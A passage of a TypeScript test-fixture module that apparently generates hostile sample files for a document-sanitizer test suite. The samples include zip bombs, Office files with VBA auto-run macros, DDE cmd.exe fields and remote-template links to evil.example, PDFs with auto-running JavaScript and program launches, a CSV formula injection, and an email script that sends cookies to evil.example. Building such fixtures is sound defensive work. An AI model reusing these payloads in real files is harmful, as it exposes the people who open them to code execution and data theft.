/**
 * Builders for the hostile (and clean) files the sanitizer tests feed the engine. Everything is
 * generated in code, so the tests show exactly what each attack looks like.
 */
import { GifWriter } from 'omggif';
import * as zlib from 'zlib';
import { strToU8, zipSync } from 'fflate';
import * as iconv from 'iconv-lite';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

export const utf8 = (s: string): Uint8Array => Buffer.from(s, 'utf8');
export const text = (bytes: Uint8Array): string => Buffer.from(bytes).toString('utf8');
export const latin1 = (bytes: Uint8Array): string => Buffer.from(bytes).toString('latin1');

// ---------------------------------------------------------------- raw ZIP (for malformed archives)

export interface RawZipEntry {
  readonly name: string | Buffer;
  /** Bytes as stored (already deflated when method is 8). */
  readonly stored: Uint8Array;
  readonly method?: 0 | 8;
  readonly crc?: number;
  readonly uncompressedSize: number;
  /** Declared compressed size; defaults to the stored length. */
  readonly compressedSize?: number;
  readonly flags?: number;
  readonly externalAttributes?: number;
}

/** Writes a ZIP byte by byte, so tests can declare lies (sizes, flags, names) real tools refuse. */
export function rawZip(entries: readonly RawZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : entry.name;
    const flags = entry.flags ?? (typeof entry.name === 'string' ? 0x800 : 0);
    const compressedSize = entry.compressedSize ?? entry.stored.length;
    const crc = entry.crc ?? 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(entry.method ?? 8, 8);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(compressedSize, 18);
    local.writeUInt32LE(entry.uncompressedSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(0x0314, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(entry.method ?? 8, 10);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(compressedSize, 20);
    central.writeUInt32LE(entry.uncompressedSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(entry.externalAttributes ?? 0, 38);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, Buffer.from(entry.stored));
    centrals.push(central, name);
    offset += local.length + name.length + entry.stored.length;
  }
  const centralDirectory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(centralDirectory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralDirectory, end]);
}

/** A deflated entry with a correct CRC and sizes. */
export function deflatedEntry(name: string | Buffer, content: Uint8Array | string, extra: Partial<RawZipEntry> = {}): RawZipEntry {
  const data = typeof content === 'string' ? utf8(content) : content;
  return { name, stored: zlib.deflateRawSync(data), crc: zlib.crc32(data), uncompressedSize: data.length, ...extra };
}

export function zip(files: Record<string, Uint8Array | string>): Uint8Array {
  return zipSync(
    Object.fromEntries(Object.entries(files).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])),
  );
}

/**
 * A deflate stream that inflates to `gibibytes` GiB of zeros while being about 1 MB per GiB:
 * one 1 MiB block of zeros compressed once, repeated (each ends on a full flush, so copies
 * concatenate into one valid stream), then a final empty block. Built in milliseconds.
 */
export function zerosDeflateStream(mebibytes: number): Buffer {
  const block = zlib.deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: zlib.constants.Z_FULL_FLUSH });
  const finalEmptyBlock = Buffer.from([0x03, 0x00]);
  return Buffer.concat([...Array<Buffer>(mebibytes).fill(block), finalEmptyBlock]);
}

/** A 10 GiB zip bomb whose header lies about its size (declares 4 KiB), so only counting while inflating can stop it. */
export function lyingZipBomb(): Buffer {
  const stream = zerosDeflateStream(10 * 1024);
  return rawZip([{ name: 'report.txt', stored: stream, uncompressedSize: 4096, crc: 0 }]);
}

/**
 * Two central directory records pointing at the same local entry: the trick of non-recursive
 * zip bombs (many records sharing one highly compressed kernel).
 */
export function overlappingZip(): Buffer {
  const content = Buffer.alloc(512 * 1024, 0x41);
  const single = rawZip([deflatedEntry('a.txt', content)]);
  const localEnd = single.readUInt32LE(single.length - 22 + 16);
  const central = single.subarray(localEnd, single.length - 22);
  const second = Buffer.from(central);
  second.write('b.txt', 46, 'latin1');
  const directory = Buffer.concat([central, second]);
  const end = Buffer.from(single.subarray(single.length - 22));
  end.writeUInt16LE(2, 8);
  end.writeUInt16LE(2, 10);
  end.writeUInt32LE(directory.length, 12);
  return Buffer.concat([single.subarray(0, localEnd), directory, end]);
}

/** Zips nested `levels` deep around a text file. */
export function nestedZips(levels: number): Uint8Array {
  let inner: Uint8Array = zip({ 'deepest.txt': 'the bottom' });
  for (let level = 1; level < levels; level += 1) inner = zip({ [`level${level}.zip`]: inner });
  return inner;
}

/** Sets the "encrypted" flag on every entry, in local and central headers, as ZipCrypto does. */
export function markEncrypted(archive: Uint8Array): Buffer {
  const buf = Buffer.from(archive);
  for (let i = 0; i + 4 <= buf.length; i += 1) {
    const signature = buf.readUInt32LE(i);
    if (signature === 0x04034b50) buf.writeUInt16LE(buf.readUInt16LE(i + 6) | 1, i + 6);
    if (signature === 0x02014b50) buf.writeUInt16LE(buf.readUInt16LE(i + 8) | 1, i + 8);
  }
  return buf;
}

// ---------------------------------------------------------------- Office Open XML

export const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
export const REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
/** A vbaProject.bin is an OLE compound file; its signature is enough for the engine to care. */
export const VBA_PROJECT = Buffer.concat([
  Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nShell "calc.exe"\nEnd Sub'),
]);

export const DOCUMENT_TEXT = '塩尻市 情報セキュリティ 会議資料';

/**
 * A macro-enabled Word document with every trick: a VBA project, a remote template
 * (attachedTemplate, the "template injection" attack), a remote image, an ActiveX control,
 * a DDE field, an INCLUDEPICTURE field, an HTML altChunk with a script, a mail merge from a
 * UNC share, a hyperlink (kept) and a smuggled unreferenced exe.
 */
export function hostileDocm(): Uint8Array {
  return zip({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Default Extension="htm" ContentType="application/xhtml+xml"/>
<Default Extension="jpeg" ContentType="image/jpeg"/>
<Default Extension="svg" ContentType="image/svg+xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>
<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>
</Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>
<w:p><w:r><w:t>${DOCUMENT_TEXT}</w:t></w:r></w:p>
<w:p><w:hyperlink r:id="rId5"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:drawing><a:blip r:link="rId6"/></w:drawing></w:r><w:r><w:t>画像の後</w:t></w:r></w:p>
<w:p><w:r><w:drawing><a:blip r:embed="rId9"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId10"/></a:ext></a:extLst></a:blip></w:drawing></w:r></w:p>
<w:p><w:r><w:object><w:control r:id="rId7" w:name="CommandButton1"/></w:object></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/track.png&quot;"><w:r><w:t>追跡画像</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" HYPERLINK &quot;file://\\\\evil.example\\share\\leak&quot; "><w:r><w:t>共有フォルダ</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.city.shiojiri.lg.jp/kurashi/&quot; "><w:r><w:t>くらしの情報</w:t></w:r></w:fldSimple></w:p>
<w:altChunk r:id="rId8"/>
</w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}">
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
<Relationship Id="rId9" Type="${R}/image" Target="media/photo.jpeg"/>
<Relationship Id="rId10" Type="${R}/image" Target="media/logo.svg"/>
<Relationship Id="rId2" Type="${R}/settings" Target="settings.xml"/>
<Relationship Id="rId5" Type="${R}/hyperlink" Target="https://www.city.shiojiri.lg.jp/" TargetMode="External"/>
<Relationship Id="rId6" Type="${R}/image" Target="http://evil.example/beacon.png" TargetMode="External"/>
<Relationship Id="rId7" Type="${R}/control" Target="activeX/activeX1.xml"/>
<Relationship Id="rId8" Type="${R}/aFChunk" Target="afchunk.htm"/>
</Relationships>`,
    'word/afchunk.htm': '<html><body><script>alert("altchunk-script")</script><p>imported</p></body></html>',
    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rId2"/></w:mailMerge></w:settings>`,
    'word/_rels/settings.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/><Relationship Id="rId2" Type="${R}/mailMergeSource" Target="file:///\\\\evil.example\\share\\data.xlsx" TargetMode="External"/></Relationships>`,
    'word/vbaProject.bin': VBA_PROJECT,
    'word/_rels/vbaProject.bin.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>`,
    'word/vbaData.xml': '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
    'word/activeX/activeX1.xml':
      '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
    'word/media/photo.jpeg': jpegWithExif(),
    'word/media/logo.svg':
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("svg-script")</script><image href="http://evil.example/svg.png"/></svg>',
    'word/media/payload.bin': Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0')]),
  });
}

/** A minimal Word package: content types, the package relationship, the document and any other parts. */
export function wordPackage(options: { defaults?: string; body: string; parts?: Record<string, Uint8Array | string> }): Uint8Array {
  return zip({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>${options.defaults ?? ''}
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="word/document.xml"/></Relationships>`,
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${R}"><w:body>${options.body}</w:body></w:document>`,
    ...options.parts,
  });
}

/** A plain .docx without anything active: must come out with its text and structure. */
export function cleanDocx(): Uint8Array {
  return wordPackage({ body: `<w:p><w:r><w:t>${DOCUMENT_TEXT}</w:t></w:r></w:p>` });
}

/**
 * A .docx whose picture is an animated GIF (two 2x2 frames, red then blue) carrying a comment
 * extension, referenced from the document like any picture.
 */
export function docxWithGif(): Uint8Array {
  const gif = Buffer.alloc(1024);
  const writer = new GifWriter(gif, 2, 2, { palette: [0xff0000, 0x0000ff], loop: 0 });
  writer.addFrame(0, 0, 2, 2, [0, 0, 0, 0], { delay: 10 });
  writer.addFrame(0, 0, 2, 2, [1, 1, 1, 1], { delay: 10 });
  const end = writer.end();
  // A comment extension before the trailer: metadata a viewer never shows.
  const comment = Buffer.concat([Buffer.from([0x21, 0xfe, 11]), Buffer.from('GIF-COMMENT', 'latin1'), Buffer.from([0])]);
  return wordPackage({
    defaults: '\n<Default Extension="gif" ContentType="image/gif"/>',
    body: `<w:p><w:r><w:t>${DOCUMENT_TEXT}</w:t></w:r><w:r><w:drawing><a:blip r:embed="rId7"/></w:drawing></w:r></w:p>`,
    parts: {
      'word/_rels/document.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId7" Type="${R}/image" Target="media/anim.gif"/></Relationships>`,
      'word/media/anim.gif': Buffer.concat([gif.subarray(0, end - 1), comment, gif.subarray(end - 1, end)]),
    },
  });
}

export const SLIDE_TEXT = '防災訓練のお知らせ';

/** A macro-enabled slide show (.ppsm: runs as soon as it is opened) with a VBA project. */
export function hostilePpsm(): Uint8Array {
  const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
  return zip({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml"/>
<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>
</Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="ppt/presentation.xml"/></Relationships>`,
    'ppt/presentation.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:presentation xmlns:p="${P}" xmlns:r="${R}"><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst></p:presentation>`,
    'ppt/_rels/presentation.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}">
<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>
<Relationship Id="rId2" Type="${R}/slide" Target="slides/slide1.xml"/>
</Relationships>`,
    'ppt/slides/slide1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<p:sld xmlns:p="${P}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>${SLIDE_TEXT}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`,
    'ppt/vbaProject.bin': VBA_PROJECT,
  });
}

export const SHEET_TEXT = '住民税 集計表';

/** An .xlsx with an embedded OLE object (the classic "double-click the icon" attack) and a DDE formula. */
export function xlsxWithOleObject(): Uint8Array {
  return zip({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
</Types>`,
    '_rels/.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}"><sheets><sheet name="集計" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}">
<Relationship Id="rId1" Type="${R}/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="${R}/sharedStrings" Target="sharedStrings.xml"/>
</Relationships>`,
    'xl/sharedStrings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${SHEET_TEXT}</t></si></sst>`,
    'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${R}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">
<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>SUM(1,2)</f><v>3</v></c><c r="C1"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData>
<oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1025" r:id="rId1"/></mc:Choice><mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rId1"/></mc:Fallback></mc:AlternateContent></oleObjects>
</worksheet>`,
    'xl/worksheets/_rels/sheet1.xml.rels': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="${REL}"><Relationship Id="rId1" Type="${R}/oleObject" Target="../embeddings/oleObject1.bin"/></Relationships>`,
    'xl/embeddings/oleObject1.bin': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.from('\x01Ole10Native invoice.exe')]),
  });
}

// ---------------------------------------------------------------- PDF

export const PDF_TEXT = 'Shiojiri City notice';

/**
 * A PDF with an OpenAction running JavaScript, a page additional-action, a document-level
 * JavaScript name tree, an attached .exe (EmbeddedFiles), a link annotation that launches a
 * program, a javascript: link, and an XFA form. The page text must survive.
 */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([300, 200]);
  page.drawText(PDF_TEXT, { x: 20, y: 100, size: 14, font });
  const ctx = doc.context;
  doc.addJavaScript('init', 'app.alert("pwned-by-name-tree")');
  await doc.attach(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), 'invoice.exe', { mimeType: 'application/octet-stream' });
  doc.catalog.set(
    PDFName.of('OpenAction'),
    ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.launchURL("http://evil.example/open-action")') }),
  );
  page.node.set(
    PDFName.of('AA'),
    ctx.obj({ O: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("http://evil.example/page-open")') }) }),
  );
  const launch = ctx.register(
    ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: ctx.obj({ F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc-launch') }) }),
  );
  const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: launch }));
  const uri = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 30, 100, 50],
      A: ctx.obj({ S: 'URI', URI: PDFString.of('https://www.city.shiojiri.lg.jp/') }),
    }),
  );
  const scriptUri = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 60, 100, 80],
      A: ctx.obj({ S: 'URI', URI: PDFString.of('javascript:app.alert("uri-script")') }),
    }),
  );
  const attachmentAnnot = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'FileAttachment',
      Rect: [0, 90, 20, 110],
      FS: ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.js') }),
    }),
  );
  // A harmless GoTo whose Next chain runs JavaScript.
  const chained = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 120, 100, 140],
      A: ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: [ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("next-chain")') })] }),
    }),
  );
  page.node.set(PDFName.of('Annots'), ctx.obj([link, uri, scriptUri, attachmentAnnot, chained]));
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [], XFA: PDFString.of('<xdp:xdp>xfa-payload</xdp:xdp>') }));
  return doc.save({ useObjectStreams: false });
}

/** A PDF whose JavaScript hides behind a hex-escaped name (/J#61vaScript), which viewers decode. */
export async function obfuscatedJavaScriptPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([100, 100]);
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("obfuscated")') }));
  const bytes = await doc.save({ useObjectStreams: false });
  return Buffer.from(latin1(bytes).replace('/OpenAction', '/Op#65nAction').replace('/JavaScript', '/J#61vaScript'), 'latin1');
}

export async function encryptedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([100, 100]);
  doc.context.trailerInfo.Encrypt = doc.context.register(doc.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 }));
  return doc.save({ useObjectStreams: false });
}

// ---------------------------------------------------------------- images

export function pngChunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data)]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A 2x2 RGBA PNG. */
export function pngParts(): { signature: Buffer; ihdr: Buffer; idat: Buffer; iend: Buffer } {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr[8] = 8;
  ihdr[9] = 6;
  const rows = Buffer.from([0, 255, 0, 0, 255, 0, 255, 0, 255, 0, 0, 0, 255, 255, 255, 255, 255, 255]);
  return {
    signature: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    ihdr: pngChunk('IHDR', ihdr),
    idat: pngChunk('IDAT', zlib.deflateSync(rows)),
    iend: pngChunk('IEND', new Uint8Array(0)),
  };
}

/** PNG with text chunks, an eXIf chunk carrying GPS and data appended after IEND. */
export function pngWithMetadata(): Buffer {
  const { signature, ihdr, idat, iend } = pngParts();
  return Buffer.concat([
    signature,
    ihdr,
    pngChunk('tEXt', Buffer.from('Comment\0secret-png-comment', 'latin1')),
    pngChunk('zTXt', Buffer.concat([Buffer.from('Author\0\0', 'latin1'), zlib.deflateSync(Buffer.from('secret-ztxt'))])),
    pngChunk('iTXt', Buffer.from('XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>secret-xmp</x:xmpmeta>', 'utf8')),
    pngChunk('eXIf', Buffer.from('MM\0*secret-gps-35.99N-137.95E', 'latin1')),
    idat,
    iend,
    Buffer.from('PK\x03\x04appended-zip-polyglot', 'latin1'),
  ]);
}

export function cleanPng(): Buffer {
  const { signature, ihdr, idat, iend } = pngParts();
  return Buffer.concat([signature, ihdr, idat, iend]);
}

function jpegSegment(marker: number, payload: Uint8Array): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([header, Buffer.from(payload)]);
}

/** A baseline 8x8 grayscale JPEG's segments (tables, frame, scan). */
function jpegCore(): Buffer {
  const dqt = jpegSegment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)]));
  const sof = jpegSegment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0]));
  const dhtDc = jpegSegment(0xc4, Buffer.concat([Buffer.from([0x00]), Buffer.from([0, 1, ...Array(14).fill(0)]), Buffer.from([0])]));
  const dhtAc = jpegSegment(0xc4, Buffer.concat([Buffer.from([0x10]), Buffer.from([0, 1, ...Array(14).fill(0)]), Buffer.from([0])]));
  const sos = jpegSegment(0xda, Buffer.from([1, 1, 0x00, 0, 63, 0]));
  // Scan data with a stuffed 0xFF00 and a restart marker, which are not segment boundaries.
  const scan = Buffer.from([0x00, 0xff, 0x00, 0x3f, 0xff, 0xd0, 0x00]);
  return Buffer.concat([dqt, sof, dhtDc, dhtAc, sos, scan]);
}

/** JPEG with JFIF, EXIF (GPS), XMP, a comment, a private APP segment and data after EOI. */
export function jpegWithExif(): Buffer {
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    jpegSegment(0xe0, Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1')),
    jpegSegment(0xe1, Buffer.from('Exif\0\0MM\0*secret-exif-gps-35.99N', 'latin1')),
    jpegSegment(0xe1, Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>secret-xmp</x:xmpmeta>', 'latin1')),
    jpegSegment(0xfe, Buffer.from('secret-jpeg-comment', 'latin1')),
    jpegSegment(0xed, Buffer.from('Photoshop 3.0\0secret-iptc', 'latin1')),
    jpegCore(),
    Buffer.from([0xff, 0xd9]),
    Buffer.from('<script>secret-trailer</script>', 'latin1'),
  ]);
}

// ---------------------------------------------------------------- e-mail

/** Base64 at 76 columns, as MIME writes it. */
function mimeBase64(bytes: Uint8Array): string {
  return (
    Buffer.from(bytes)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');
}

export const MAIL_TEXT = '来週の会議資料を添付します。';

/** An HTML mail with a script, a remote tracking image, an .exe and a macro document attached. */
export function hostileEmail(): Buffer {
  const html = `<html><head><script>document.location="http://evil.example/steal?c="+document.cookie</script></head>
<body><p>${MAIL_TEXT}</p><img src="http://evil.example/track.gif?id=42"><a href="http://evil.example/phish">こちらをクリック</a></body></html>`;
  const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0'), Buffer.alloc(64)]);
  const lines = [
    'From: "総務課" <soumu@example.jp>',
    'To: jouhou@city.shiojiri.example.jp',
    'Subject: =?UTF-8?B?' + Buffer.from('会議資料').toString('base64') + '?=',
    'Date: Tue, 24 Nov 2026 09:00:00 +0900',
    'Message-ID: <meeting-42@example.jp>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="outer"',
    '',
    '--outer',
    'Content-Type: text/html; charset=UTF-8',
    'Content-Transfer-Encoding: base64',
    '',
    mimeBase64(Buffer.from(html, 'utf8')),
    '--outer',
    'Content-Type: application/octet-stream; name="invoice.exe"',
    'Content-Disposition: attachment; filename="invoice.exe"',
    'Content-Transfer-Encoding: base64',
    '',
    mimeBase64(exe),
    '--outer',
    'Content-Type: application/vnd.ms-word.document.macroEnabled.12; name="shiryou.docm"',
    'Content-Disposition: attachment; filename="shiryou.docm"',
    'Content-Transfer-Encoding: base64',
    '',
    mimeBase64(hostileDocm()),
    '--outer--',
    '',
  ];
  return Buffer.from(lines.join('\r\n'), 'utf8');
}

// ---------------------------------------------------------------- text and programs

export const SJIS_CSV_TEXT =
  '氏名,住所,電話\r\n山田太郎,塩尻市大門七番町3-3,0263-52-0280\r\n髙橋①,"=HYPERLINK(""http://evil.example"",""click"")",-12.5\r\n';

export function shiftJisCsv(): Buffer {
  return iconv.encode(SJIS_CSV_TEXT, 'cp932');
}

export const ELF_HEADER = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);
export const PE_HEADER = Buffer.concat([
  Buffer.from('MZ'),
